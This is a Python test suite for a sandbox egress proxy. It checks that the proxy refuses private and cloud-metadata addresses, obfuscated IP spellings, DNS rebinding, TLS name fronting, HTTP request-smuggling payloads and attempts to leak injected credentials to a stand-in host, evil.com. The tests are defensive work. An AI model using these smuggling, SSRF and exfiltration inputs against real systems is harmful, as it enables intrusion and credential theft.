"""Attacks on the way out of a sandbox, at the level of the proxy."""

import asyncio
import base64
import contextlib
import ssl
from collections.abc import AsyncGenerator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from openinteractions.netguard import Guard
from openinteractions.sandbox.egress.dial import Asker
from openinteractions.sandbox.egress.inject import Bearer, Placeholder, placeholder
from openinteractions.sandbox.egress.policy import Reach
from openinteractions.sandbox.egress.proxy import Kind
from tests.sandbox.egress import rig as rigs
from tests.sandbox.egress.rig import Rig, allow
from tests.sandbox.egress.test_hello import made, name, records, said

GOOD = "api.example.com"
SECRET = "the-real-token"
KINDS: list[Kind] = ["proxy", "https", "http"]
OPENED = allow(transform={"X-Added": "1"})


@pytest.fixture
async def rig(tmp_path: Path) -> AsyncGenerator[Rig]:
    async with rigs.rig(tmp_path) as opened:
        yield opened


@pytest.fixture
async def guarded(tmp_path: Path) -> AsyncGenerator[Rig]:
    """The guard as it is: nothing private."""
    async with rigs.rig(tmp_path, guard=Guard()) as opened:
        yield opened


@pytest.fixture
async def host(rig: Rig) -> AsyncGenerator[list[bytes]]:
    """A server that answers what looks like requests, and keeps all that came."""

    async def serve(reader, writer):
        while head := await reader.readuntil(b"\r\n\r\n"):
            got.append(head)
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

    async with rigs.script(rig, serve) as got:
        yield got


@contextlib.asynccontextmanager
async def trap(rig: Rig):
    """A server that nothing may reach."""

    async def serve(reader, writer):
        got.append(await reader.read(100))

    async with rigs.script(rig, serve) as got:
        yield
    assert got == []


# --- private places -------------------------------------------------------------------------------

LITERALS = [
    "127.0.0.1", "10.0.0.1", "172.17.0.1", "192.168.1.1", "169.254.169.254", "100.100.100.200",
    "0.0.0.0", "224.0.0.1", "255.255.255.255", "192.0.0.192", "168.63.129.16", "198.18.0.1",
    "[::1]", "[::]", "[fd00:ec2::254]", "[fe80::1]", "[::ffff:10.0.0.1]", "[::ffff:7f00:1]",
    "[64:ff9b::a00:1]", "[2002:a00:1::]", "[::ffff:169.254.169.254]",
]  # fmt: skip
SPELLINGS = [
    "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "127.1", "127.0.1", "017700000001", "0",
    "127.0.0.1.", "[::1%25lo]", "[fe80::1%eth0]", "user@127.0.0.1", "a.com@127.0.0.1",
    "1.1.1.1#@127.0.0.1", "127.0.0.1%00.example.com", "[127.0.0.1]",
    "127.0.0.1\\.example.com", "%31%32%37.0.0.1",
]  # fmt: skip


@pytest.mark.parametrize("address", LITERALS)
async def test_private_addresses_are_refused(guarded: Rig, address: str):
    ask = f"GET / HTTP/1.1\r\nHost: {address}\r\n\r\n".encode()
    async with trap(guarded):
        for got in (
            await guarded.say_through(f"{address}:443", ask),
            await guarded.say_through(f"{address}:80", ask),
            await guarded.say("proxy", f"CONNECT {address}:443 HTTP/1.1\r\n\r\n".encode()),
            await guarded.say("proxy", ask.replace(b" / ", f" http://{address}/ ".encode())),
            await guarded.say("http", ask),
        ):
            assert got.startswith(b"HTTP/1.1 403"), got
            assert b"not public" in got


@pytest.mark.parametrize("address", SPELLINGS)
async def test_odd_spellings_are_no_hosts(guarded: Rig, address: str):
    async with trap(guarded):
        for data in (
            f"CONNECT {address}:443 HTTP/1.1\r\n\r\n",
            f"GET http://{address}/ HTTP/1.1\r\nHost: {address}\r\n\r\n",
        ):
            got = await guarded.say("proxy", data.encode())
            assert got.startswith(b"HTTP/1.1 400"), got
        got = await guarded.say("http", f"GET / HTTP/1.1\r\nHost: {address}\r\n\r\n".encode())
        assert got.startswith(b"HTTP/1.1 400"), got
    assert guarded.lookups == []


@pytest.mark.parametrize(
    "answers",
    [
        ["127.0.0.1"], ["10.0.0.1"], ["169.254.169.254"], ["::1"], ["::ffff:10.0.0.1"],
        ["fe80::1%2"], ["8.8.8.8", "127.0.0.1"], ["2606:4700::1111", "fd00::1"],
        ["64:ff9b::7f00:1"],
    ],
)  # fmt: skip
@pytest.mark.parametrize("network", [None, allow(GOOD), OPENED], ids=["open", "listed", "opened"])
async def test_names_of_private_places_are_refused(guarded: Rig, answers: list[str], network):
    """One bad answer among good ones is enough."""
    guarded.names[GOOD] = answers
    guarded.rules(network)
    async with trap(guarded):
        got = await guarded.say_tls(f"GET / HTTP/1.1\r\nHost: {GOOD}\r\n\r\n".encode())
        assert got.startswith(b"HTTP/1.1 403"), got
        assert b"not public" in got


async def test_a_name_that_changes_its_mind_gains_nothing(tmp_path: Path, monkeypatch):
    """It is looked up once; where the connection goes was judged."""
    async with rigs.rig(tmp_path) as rig:
        answers = iter([["127.0.0.1"], ["10.0.0.1"], ["10.0.0.1"]])

        async def rebind(host: str, port: int):
            rig.lookups.append(host)
            return next(answers)

        rig.dialler._resolver = rebind
        asked: list[object] = []
        loop = asyncio.get_running_loop()
        connect = loop.create_connection

        async def noted(factory, where=None, *args, **more):
            asked.append(where)
            return await connect(factory, where, *args, **more)

        async def serve(reader, writer):
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")

        async with rigs.script(rig, serve):
            monkeypatch.setattr(loop, "create_connection", noted)
            ask = b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
            got = await rig.say("http", ask + ask)
        assert got.count(b"200 OK") == 1
        assert b"403" in got
        assert rig.lookups == [GOOD, GOOD]
        assert [each for each in asked if each != "127.0.0.1"] == []


async def test_a_public_address_needs_a_rule(rig: Rig, host: list[bytes]):
    rig.rules(allow("*.example.com"))
    got = await rig.say_through("8.8.8.8:443", b"GET / HTTP/1.1\r\nHost: 8.8.8.8\r\n\r\n")
    assert b"403" in got
    assert b"allowlist" in got


# --- fronting -------------------------------------------------------------------------------------


async def test_the_name_in_tls_must_be_the_connects(rig: Rig):
    rig.rules(allow(GOOD))
    async with trap(rig):
        for hello in (said("evil.com"), said(None), made(name(b"api.example.com.evil.com"))):
            reader, writer = await rig.open("proxy")
            writer.write(b"CONNECT api.example.com:443 HTTP/1.1\r\n\r\n")
            await reader.readuntil(b"\r\n\r\n")
            writer.write(hello)
            await asyncio.sleep(0.02)
            writer.write_eof()
            answer = await reader.read(-1)
            # Our own handshake, never the host's.
            assert answer == b"" or answer[0] in (0x16, 0x15)
            writer.close()
    assert {entry.decision for entry in await rig.settled(3)} >= {"refused"}


async def test_an_encrypted_name_does_not_get_through(rig: Rig):
    """A tunnel would carry it to a host that may be another."""
    rig.rules(allow(GOOD))
    hello = made(name(GOOD.encode()), (0xFE0D, b"hidden"))
    async with trap(rig):
        reader, writer = await rig.open("https")
        writer.write(hello)
        writer.write_eof()
        await reader.read(-1)
        writer.close()


async def test_an_encrypted_name_makes_no_difference_where_all_is_open(rig: Rig):
    async def serve(reader, writer):
        got.append(await reader.read(1000))

    hello = made(name(GOOD.encode()), (0xFE0D, b"grease"))
    async with rigs.script(rig, serve) as got:
        rig.dialler.at = {443: rig.dialler.at[80]}
        await rig.say("https", hello)
        assert got == [hello]
        rig.rules(None, ceiling=Reach("allowlist", ["*.example.com"]))
        await rig.say("https", hello + b"x")
        assert got == [hello]


async def test_a_hello_in_pieces_is_judged_whole(rig: Rig):
    rig.rules(allow(GOOD))
    pieces = records(said("evil.com")[5:], 20)
    async with trap(rig):
        reader, writer = await rig.open("https")
        for at in range(0, len(pieces), 7):
            writer.write(pieces[at : at + 7])
            await asyncio.sleep(0)
        writer.write_eof()
        await reader.read(-1)
        writer.close()
    assert (await rig.settled())[0].host == "evil.com"


@pytest.mark.parametrize(
    "data",
    [
        b"\x16\x03\x01\0\x05hello", said(None), b"SSH-2.0-x\r\n", b"\0" * 70000,
        b"\x80\x2e\x01",
    ],
)  # fmt: skip
async def test_what_names_no_host_goes_nowhere(rig: Rig, data: bytes):
    async with trap(rig):
        assert await rig.say("https", data) == b""
    assert (await rig.settled())[0].decision == "refused"


@pytest.mark.parametrize("network", [None, OPENED])
async def test_host_must_be_the_target(rig: Rig, host: list[bytes], network):
    rig.rules(network)
    for other in (b"evil.com", b"api.example.com:444", b"api.example.com.evil.com"):
        ask = b"GET / HTTP/1.1\r\nHost: %b\r\n\r\n" % other
        if network is OPENED:
            got = await rig.say_tls(ask)
        else:
            got = await rig.say("proxy", ask.replace(b" / ", b" http://api.example.com/ "))
        assert b"403" in got
        assert b"Host differs" in got
    assert host == []


# --- smuggling ------------------------------------------------------------------------------------

BAD = [
    b"GET / HTTP/1.1\r\nHost: @\r\nHost: evil.com\r\n\r\n",
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost:\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: @ evil.com\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost : @\r\n\r\n",
    b"GET / HTTP/1.1\r\n Host: @\r\n\r\n",
    b"GET / HTTP/1.1\nHost: @\n\n",
    b"GET / HTTP/1.1\r\nHost: @\r\nX: a\rb\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: @\r\nX: a\n b\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: @\r\nX: a\0b\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: @\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n",
    b"POST / HTTP/1.1\r\nHost: @\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcd",
    b"POST / HTTP/1.1\r\nHost: @\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: @\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: @\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: @\r\nTransfer-Encoding:\tchunked, identity\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: @\r\nContent-Length: +4\r\n\r\nabcd",
    b"POST / HTTP/1.1\r\nHost: @\r\nContent-Length: 0x4\r\n\r\nabcd",
    b"GET / HTTP/1.1\r\nHost: @\r\nConnection: Host\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: @\r\nConnection: content-length\r\n\r\n",
    b"GET / HTTP/2.0\r\nHost: @\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET http://evil.com/ HTTP/1.1\r\nHost: @\r\n\r\n",
    b"GET //x\r\n HTTP/1.1\r\nHost: @\r\n\r\n",
    b"GET /#x HTTP/1.1\r\nHost: @\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: @\r\n\r\n",
    b"GET * HTTP/1.1\r\nHost: @\r\n\r\n",
]  # fmt: skip


@pytest.mark.parametrize("data", BAD)
async def test_what_can_be_read_in_two_ways_is_refused(rig: Rig, host: list[bytes], data: bytes):
    data = data.replace(b"@", GOOD.encode())
    after = b"GET /smuggled HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
    rig.rules(OPENED)
    got = await rig.say_tls(data + after)
    assert got.startswith(b"HTTP/1.1 400"), got
    assert got.count(b"HTTP/1.1") == 1
    rig.rules(None)
    got = await rig.say("http", data + after)
    assert got.startswith(b"HTTP/1.1 400"), got
    assert host == []
    assert {entry.decision for entry in await rig.settled(2)} == {"refused"}


async def test_nothing_follows_a_malformed_chunk(rig: Rig, host: list[bytes]):
    rig.rules(OPENED)
    head = b"POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
    for body in (
        b"5\r\nabcdeGET /smuggled",
        b"0;\0\r\n\r\n",
        b"5\nabcde\n0\n\n",
        b"-5\r\nabcde\r\n",
    ):
        await rig.say_tls(head + body + b" HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
    assert not any(b"smuggled" in each for each in host)


@pytest.mark.parametrize(
    "answer",
    [
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nabc",
        b"HTTP/1.1 200 OK\nContent-Length: 2\n\nab", b"HTTP/1.1 200 OK\r\nX: a\r\n b\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nX\0: a\r\n\r\n", b"HTTP/1.1 200 OK\r\nX: \x1b[2J\r\n\r\n",
        b"hello\r\n\r\n", b"HTTP/1.1 200 OK\r\nX: " + b"a" * 70000, b"HTTP/1.1 200 OK\r\n",
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        b"HTTP/1.1 100 Continue\r\n\r\n" * 50 + b"HTTP/1.1 200 OK\r\n\r\n", b"",
    ],
)  # fmt: skip
async def test_hosts_cannot_confuse_either(rig: Rig, answer: bytes):
    async def serve(reader, writer):
        await reader.readuntil(b"\r\n\r\n")
        writer.write(answer)

    rig.rules(OPENED)
    async with rigs.script(rig, serve):
        got = await rig.say_tls(b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
    final = got.replace(b"HTTP/1.1 100 Continue\r\n\r\n", b"")
    assert final.startswith(b"HTTP/1.1 502"), got


async def test_what_a_host_sends_unasked_is_nobodys_answer(rig: Rig):
    async def serve(reader, writer):
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        await writer.drain()
        await asyncio.sleep(0.05)
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nforged")
        await reader.read(-1)

    ask = b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
    rig.rules(OPENED)
    async with rigs.script(rig, serve):
        reader, writer = await rig.tls()
        writer.write(ask)
        assert (await reader.readuntil(b"ok")).endswith(b"ok")
        await asyncio.sleep(0.2)
        writer.write(ask)
        assert b"forged" not in await reader.readuntil(b"ok")
        writer.close()


async def test_other_protocols_cannot_be_switched_to(rig: Rig, host: list[bytes]):
    rig.rules(None)
    await rig.say(
        "http",
        b"GET / HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade, HTTP2-Settings, close\r\n"
        b"Upgrade: h2c\r\nHTTP2-Settings: AAA\r\n\r\n",
    )
    assert b"pgrade" not in host[0]
    assert b"HTTP2" not in host[0]


@pytest.mark.parametrize("method", [b"CONNECT", b"TRACE", b"TRACK"])
async def test_some_methods_are_refused(rig: Rig, host: list[bytes], method: bytes):
    rig.rules(OPENED)
    got = await rig.say_tls(method + b" / HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
    assert got.startswith(b"HTTP/1.1 403")
    assert host == []


# --- credentials ----------------------------------------------------------------------------------


async def test_a_credential_goes_to_its_host_alone(rig: Rig, host: list[bytes]):
    rig.vault["gh"] = Bearer(token=SECRET)
    rig.rules({"allowlist": [{"domain": GOOD, "credential": "gh"}, {"domain": "*"}]})
    ask = "GET / HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n"
    for other in ("a.com", "x.api.example.com", "api.example.com.evil.com"):
        await rig.say("http", ask.format(other).encode())
    await rig.say("http", ask.format(GOOD).encode())
    assert not any(SECRET.encode() in each for each in host)
    await rig.say_tls(ask.format(GOOD).encode())
    assert SECRET.encode() in host[-1]


async def test_a_forged_host_gets_no_credential(rig: Rig, tmp_path: Path):
    """Whoever answers in its place cannot show its certificate."""
    other = rigs.ca.load_or_make(tmp_path / "forger")
    seen: list[bytes] = []

    async def serve(reader, writer):
        seen.append(await reader.read(1000))

    server = await asyncio.start_server(serve, "127.0.0.1", 0, ssl=await other.context(GOOD))
    rig.dialler.at = {443: server.sockets[0].getsockname()[1]}
    rig.vault["gh"] = Bearer(token=SECRET)
    rig.rules(allow(credential="gh"))
    got = await rig.say_tls(f"GET / HTTP/1.1\r\nHost: {GOOD}\r\n\r\n".encode())
    server.close()
    await server.wait_closed()
    assert b"certificate" in got
    assert seen in ([], [b""])


@pytest.mark.parametrize(
    "ask",
    [
        "GET / HTTP/1.1\r\nHost: {h}\r\nX: {m}\r\n\r\n",
        "GET /?a={m} HTTP/1.1\r\nHost: {h}\r\n\r\n",
        "GET /{m} HTTP/1.1\r\nHost: {h}\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: {h}\r\nAuthorization: Basic {b}\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: {h}\r\nauthorization: bAsIc   {b}\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: {h}\r\nContent-Length: {n}\r\n\r\n{m}",
        (
            "POST / HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\n\r\n"
            "5\r\n{m5}\r\n{r:x}\r\n{mr}\r\n0\r\n\r\n"
        ),
        "POST / HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: {m}\r\n\r\n",
    ],
)  # fmt: skip
async def test_a_placeholder_gets_no_value_elsewhere(rig: Rig, ask: str):
    """`evil.com` is reachable, and not trusted."""
    seen = bytearray()

    async def serve(reader, writer):
        while part := await reader.read(1000):
            seen.extend(part)
            if seen.endswith(b"0\r\n\r\n"):
                return

    mark = placeholder("key")
    rig.vault["key"] = Placeholder(
        value=SECRET, trusted_domains=(GOOD,), locations=frozenset({"header", "query", "body"})
    )
    rig.rules(None, "key")
    pair = base64.b64encode(f"u:{mark}".encode()).decode()
    data = ask.format(
        h="evil.com", m=mark, b=pair, n=len(mark), m5=mark[:5], mr=mark[5:], r=len(mark) - 5
    )
    async with rigs.script(rig, serve):
        await rig.say("http", data.encode())
        await rig.say_tls(data.encode(), "evil.com")
    assert SECRET.encode() not in seen
    assert mark.encode() not in seen


async def test_a_transform_is_not_undone_by_connection(rig: Rig, host: list[bytes]):
    rig.rules(OPENED)
    await rig.say_tls(
        b"GET / HTTP/1.1\r\nHost: api.example.com\r\nConnection: X-Added, close\r\n\r\n"
    )
    assert b"X-Added: 1" in host[0]


# --- exhaustion and rubbish -----------------------------------------------------------------------


async def test_a_head_without_end_is_bounded(rig: Rig):
    got = await rig.say("http", b"GET / HTTP/1.1\r\nX: " + b"a" * (2 << 20))
    assert got.startswith(b"HTTP/1.1 400")


async def test_slow_names_of_one_project_keep_nobody_else(rig: Rig, host: list[bytes]):
    """Its look-ups never end, in however many environments."""
    begun: list[str] = []

    async def resolve(name: str, port: int) -> list[str]:
        begun.append(name)
        if name.startswith("slow"):
            await asyncio.Event().wait()
        return ["127.0.0.1"]

    rig.dialler._resolver = resolve
    tasks = [
        asyncio.ensure_future(
            rig.dialler.connect(f"slow{name}.com", 80, is_tls=False, asker=environment)
        )
        for environment in [Asker("mallory") for _ in range(40)]
        for name in range(5)
    ]
    await asyncio.sleep(0.05)
    assert 0 < len(begun) < 20
    assert b"200 OK" in await rig.say(
        "http", b"GET / HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n"
    )
    for each in tasks:
        each.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def test_many_requests_at_once_stay_in_order(rig: Rig, host: list[bytes]):
    ask = b"GET /%d HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
    last = b"GET /last HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n"
    got = await rig.say("http", b"".join(ask % each for each in range(200)) + last)
    assert got.count(b"200 OK") == 201
    assert [head.split(b" ")[1] for head in host[:200]] == [b"/%d" % each for each in range(200)]


async def test_connections_of_one_environment_are_bounded(rig: Rig):
    held = [await rig.open("http") for _ in range(256)]
    await rigs.until(lambda: rig.egress.connections == 256)
    assert b"256 connections open" in await rig.say("proxy", b"")
    for _, writer in held:
        writer.close()
    await rigs.until(lambda: not rig.egress.connections)


@pytest.mark.parametrize("kind", KINDS)
@settings(
    max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None
)
@given(data=st.lists(st.binary(max_size=60) | st.sampled_from(
    [b"GET / HTTP/1.1\r\n", b"CONNECT a.com:443 HTTP/1.1\r\n\r\n", b"Host: a.com\r\n", b"\r\n",
     b"\x16\x03\x01", said("a.com"), b"Transfer-Encoding: chunked\r\n", b"Content-Length: 5\r\n"]),
    max_size=8).map(b"".join))  # fmt: skip
def test_rubbish_breaks_nothing(tmp_path_factory, kind: Kind, data: bytes):
    problems: list[object] = []

    async def work() -> None:
        asyncio.get_running_loop().set_exception_handler(lambda _, told: problems.append(told))
        async with rigs.rig(rubbish_home(tmp_path_factory)) as rig:
            rig.rules({"allowlist": [{"domain": "a.com", "transform": {"X": "y"}}]})
            rig.dialler.at = {80: 9, 443: 9}
            reader, writer = await rig.open(kind)
            writer.write(data)
            writer.write_eof()
            async with asyncio.timeout(10):
                with contextlib.suppress(ConnectionError):
                    await reader.read(-1)
            writer.close()
            assert all(entry.status != 200 for entry in rig.journal)

    with asyncio.Runner() as runner:
        runner.run(work())
    assert problems == []


def rubbish_home(factory) -> Path:
    """One authority for all examples."""
    home = factory.getbasetemp() / "rubbish"
    home.mkdir(exist_ok=True)
    return home


async def test_only_verifying_contexts_are_taken(rig: Rig):
    careless = ssl.create_default_context()
    careless.check_hostname = False
    with pytest.raises(AssertionError):
        type(rig.proxy)(rig.authority, Guard(), rig.vault, rig.journal, upstream_ssl=careless)
